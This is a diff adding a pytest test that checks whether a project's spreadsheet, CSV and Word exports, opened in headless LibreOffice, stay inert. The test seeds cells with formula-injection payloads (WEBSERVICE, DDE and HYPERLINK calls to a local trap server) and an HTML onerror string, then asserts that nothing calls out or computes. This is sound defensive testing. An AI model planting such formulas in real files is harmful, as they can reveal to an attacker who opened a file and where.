@@ -2,6 +2,8 @@
 
 import io
 import re
+import shutil
+import subprocess
 import zipfile
 from datetime import UTC, date, datetime
 from xml.etree import ElementTree as Xml
@@ -20,6 +22,7 @@ from data.schema.tables import SOURCES
 from data.store import Wanted
 from editions import brief, content, pdf, word
 from tests import planted
+from tests.servers.publisher import GONE, Publisher
 from visuals.language.words import Words
 
 NOW = datetime(2026, 11, 24, 12, tzinfo=UTC)
@@ -107,3 +110,51 @@ def test_a_workbook_computes_nothing_and_links_to_the_web_alone(store):
     assert not [sheet for sheet in sheets if b"<f>" in sheet or b"<f " in sheet]
     for target in re.findall(rb'Target="([^"]*)" TargetMode="External"', b"".join(links)):
         assert target.startswith((b"https://", b"http://"))
+
+
+@pytest.mark.enable_socket
+@pytest.mark.allow_hosts(["127.0.0.1"])
+@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not on this machine")
+def test_files_that_libreoffice_opens_compute_nothing_and_call_nobody(
+    store, briefed, tmp_path, monkeypatch
+):
+    """A formula out of a source's text would tell its author who opened the file, and where."""
+    asked: list[str] = []
+    with Publisher() as trap:
+        monkeypatch.setattr(trap, "reply", lambda path, query: asked.append(path) or GONE)
+        attacks = (
+            f'=WEBSERVICE("{trap.url}/webservice")',
+            f'=DDE("soffice";"{trap.url}/dde";"A1")',
+            f'+HYPERLINK("{trap.url}/link")',
+            "=6*7001",
+            "@6*7001",
+        )
+        rows = store.current().figures(Wanted(place=("SY07",))).head(20)
+        rows = rows.assign(category=[attacks[n % len(attacks)] for n in range(len(rows))])
+        provenance = Provenance("x", SOURCES.empty())
+        for form in ("xlsx", "csv"):
+            body = exports.as_bytes(rows, form, provenance=provenance, public=False)
+            (tmp_path / f"figures.{form}").write_bytes(body)
+        (tmp_path / "brief.docx").write_bytes(word.made(briefed))
+        kinds = {"figures.xlsx": "html", "figures.csv": "html", "brief.docx": "txt"}
+        for name, kind in kinds.items():
+            _open_and_save(tmp_path / name, kind, tmp_path / name.replace(".", "-"))
+    assert asked == []
+    for name in ("figures-xlsx", "figures-csv"):
+        (page,) = (tmp_path / name).glob("*.html")
+        text = page.read_text(encoding="utf-8")
+        assert "WEBSERVICE(" in text
+        assert "42006" not in text
+    (told,) = (tmp_path / "brief-docx").glob("*.txt")
+    assert "onerror=window.hacked" in told.read_text(encoding="utf-8")
+
+
+def _open_and_save(path, kind, folder):
+    profile = folder.with_name(f"{folder.name}-profile").as_uri()
+    words = ["--headless", f"-env:UserInstallation={profile}", "--convert-to", kind]
+    subprocess.run(  # noqa: S603
+        ["soffice", *words, "--outdir", str(folder), str(path)],  # noqa: S607
+        check=True,
+        timeout=120,
+        capture_output=True,
+    )
